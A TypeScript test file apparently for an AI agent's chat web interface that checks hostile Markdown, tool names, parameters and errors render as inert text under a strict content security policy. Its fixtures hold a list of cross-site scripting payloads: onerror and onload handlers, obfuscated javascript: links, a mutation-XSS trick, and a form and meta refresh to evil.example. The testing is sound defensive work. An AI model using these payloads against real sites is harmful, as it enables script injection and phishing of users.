import { ProviderError } from 'rxagent';
import { describePage, itOnPage, type World } from '../support/onPage';

const html = [
  '<img src=x onerror="globalThis.hurt=1">',
  '<script>globalThis.hurt=2</script>',
  '<iframe srcdoc="<script>parent.hurt=3</script>"></iframe>',
  '<svg onload="globalThis.hurt=4"><a xlink:href="javascript:hurt=4"><text>x</text></a></svg>',
  '<p style="position:fixed;inset:0" onclick="globalThis.hurt=5">styled</p>',
  '<a href="javascript:globalThis.hurt=6">go</a>',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=globalThis.hurt=7&gt;">',
  '<form action="https://evil.example"><input name=x><button>Log in</button></form>',
  '<base href="https://evil.example/"><meta http-equiv=refresh content="0;url=https://evil.example"><object data="x"></object><embed src="x">',
  '<details open ontoggle="globalThis.hurt=8"><summary>s</summary></details>',
].join('\n\n');

const markdown = `# A title

${html}

[one](javascript:globalThis.hurt=10) [two](JaVaScRiPt:globalThis.hurt=11) [three](java\tscript:globalThis.hurt=12) [four](&#106;avascript:globalThis.hurt=13) [five](data:text/html,<script>hurt=14</script>) [six](vbscript:hurt) [seven](<javascript:globalThis.hurt=15>)
[eight][ref] <javascript:globalThis.hurt=16>

[good](https://example.com/ "a title")

![picture](https://evil.example/pixel.png) ![x](x"onerror="globalThis.hurt=17)

| a | b |
| - | - |
| <img src=x onerror=globalThis.hurt=18> | <svg/onload=globalThis.hurt=19> |

\`\`\`"><img src=x onerror=globalThis.hurt=20>
<script>globalThis.hurt=21</script>
\`\`\`

\`\`\`html
<img src=x onerror=globalThis.hurt=22>
\`\`\`

- [x] <img src=x onerror=globalThis.hurt=23>

[ref]: javascript:globalThis.hurt=24

The end.`;

/** What a hostile text must not have made: elements and attributes that the page itself does not use, links that do more than lead away. */
async function harm({ page }: World): Promise<unknown> {
  return page.evaluate(() => {
    const root = document.querySelector('app-root')!;
    const elements = [...root.querySelectorAll('script, iframe, object, embed, base, meta, link, style, math, img:not(.attached img):not(.question img), app-markdown :is(svg, form, input, details, img)')];
    const attributes = [...root.querySelectorAll('*')].flatMap((element) => [...element.attributes].filter(({ name }) => name.startsWith('on')).map(({ name }) => `${element.tagName} ${name}`));
    const styles = [...root.querySelectorAll('app-markdown [style]')].map(({ outerHTML }) => outerHTML);
    const links = [...root.querySelectorAll('a[href]')].map((link) => link.getAttribute('href')!).filter((href) => !/^(https?:|mailto:|#)/.test(href));
    return { hurt: (globalThis as { hurt?: unknown }).hurt, elements: elements.map(({ outerHTML }) => outerHTML), attributes, styles, links, title: document.title };
  });
}

const none = { hurt: undefined, elements: [], attributes: [], styles: [], links: [], title: 'rxagent · an observable agent' };

describePage('the page', () => {
  itOnPage('should show hostile Markdown as text, while it grows and when it is whole', {}, async (world) => {
    const { page, chat, stage } = world;
    const asked: string[] = [];
    page.on('request', (request) => asked.push(request.url()));
    await chat.ask('Be evil');
    const reply = await stage.reply();
    for (let at = 0; at < markdown.length; at += 40) reply.give(markdown.slice(at, at + 40));
    await chat.says('The end.');
    expect(await harm(world)).toEqual(none);
    reply.end();
    await chat.rests();

    for (const link of await chat.answer.locator('app-markdown a').all()) expect(await link.getAttribute('rel')).toContain('noopener');
    expect(await chat.answer.locator('app-markdown a').evaluateAll((links) => links.map((link) => link.getAttribute('href')).filter(Boolean))).toEqual(['https://example.com/', 'https://evil.example/pixel.png']);
    expect(await harm(world)).toEqual(none);
    expect(asked.filter((url) => !url.startsWith(world.url))).toEqual([]);
    expect(await chat.words()).toContain('<img src=x onerror="globalThis.hurt=1">');
  });

  itOnPage('should show Markdown that is cut anywhere as text', {}, async (world) => {
    const { chat, stage } = world;
    await chat.ask('Be evil');
    const reply = await stage.reply();
    for (const sign of html) reply.give(sign);
    reply.give('\n\nThe end.');
    await chat.says('The end.');
    expect(await harm(world)).toEqual(none);
    await chat.stop.click();
    await chat.rests();
    expect(await harm(world)).toEqual(none);
  });

  itOnPage('should show hostile questions, tools, results and errors as text', { tools: ['dig', 'send_email'] }, async (world) => {
    const { page, chat, stage } = world;
    await chat.ask(html);
    const reply = await stage.reply();
    reply.asked.report({ type: 'reasoning-delta', delta: html });
    reply.give('Now. ', { id: 'a"><img src=x onerror=hurt=1>', toolName: 'dig', parameters: { [html]: html } }, { id: 'b', toolName: '<img src=x onerror=hurt=30>', parameters: { x: html } }, { id: 'c', toolName: 'send_email', parameters: { [html]: html } }).end();
    const call = await stage.call('dig');
    call.give(html);
    await page.getByRole('button', { name: 'Approve' }).waitFor();
    expect(await harm(world)).toEqual(none);
    await page.getByRole('button', { name: 'Approve' }).click();
    (await stage.call('send_email')).fail(new Error(html));
    call.give(html).end();

    const last = await stage.reply(1);
    for (const card of await page.locator('details.tool').all()) await card.locator('summary').click();
    for (const bar of await chat.bars.all()) await bar.hover();
    last.fail(new ProviderError(html, { provider: 'staged', code: 'overloaded', status: 400 }));
    await page.getByRole('alert').getByText('onerror').waitFor();
    expect(await harm(world)).toEqual(none);
    await page.reload();
    await page.getByRole('article').first().waitFor();
    expect(await harm(world)).toEqual(none);
  });

  itOnPage('should be seen to be harmed, if it were', { mayComplain: /violated: |Content Security Policy|404/ }, async (world) => {
    await world.page.evaluate((harmful) => {
      document.querySelector('app-root')!.insertAdjacentHTML('beforeend', `<app-markdown>${harmful}</app-markdown>`);
      (globalThis as { hurt?: unknown }).hurt = 1;
    }, html.replaceAll(/<(base|meta)[^>]*>/g, ''));
    const found = (await harm(world)) as Record<string, unknown[]>;
    for (const [kind, value] of Object.entries(found)) if (kind !== 'title') expect(value).not.toEqual((none as Record<string, unknown>)[kind]);
  });

  itOnPage('should be served under a policy that forbids code of others', {}, async ({ page, url }) => {
    const response = await page.request.get(url);
    const policy = response.headers()['content-security-policy'] ?? '';
    expect(policy).toContain("default-src 'self'; script-src 'self';");
    expect(policy).not.toContain('unsafe');
    expect((await page.request.get(`${url}/api/agent?run=none`)).headers()['content-security-policy']).toBe(policy);
  });
});
